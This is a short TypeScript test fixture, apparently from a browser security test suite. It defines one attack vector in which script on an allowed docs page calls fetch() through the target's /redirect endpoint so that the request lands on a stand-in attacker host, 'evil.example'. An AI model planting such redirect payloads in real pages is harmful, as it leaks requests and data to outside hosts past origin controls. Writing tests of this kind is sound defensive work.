import { NO_CORS, script } from '../../suite/markup';
import { EVIL, TARGET } from '../../suite/target';
import type { Vector } from '../../suite/vector';

/** The allowed page asks the API, which sends it on. */
export default {
  from: TARGET.docs,
  markup: script(`fetch('${TARGET.origin}/redirect?to=${EVIL}{path}', ${NO_CORS})`),
  at: 'evil.example',
} satisfies Vector;
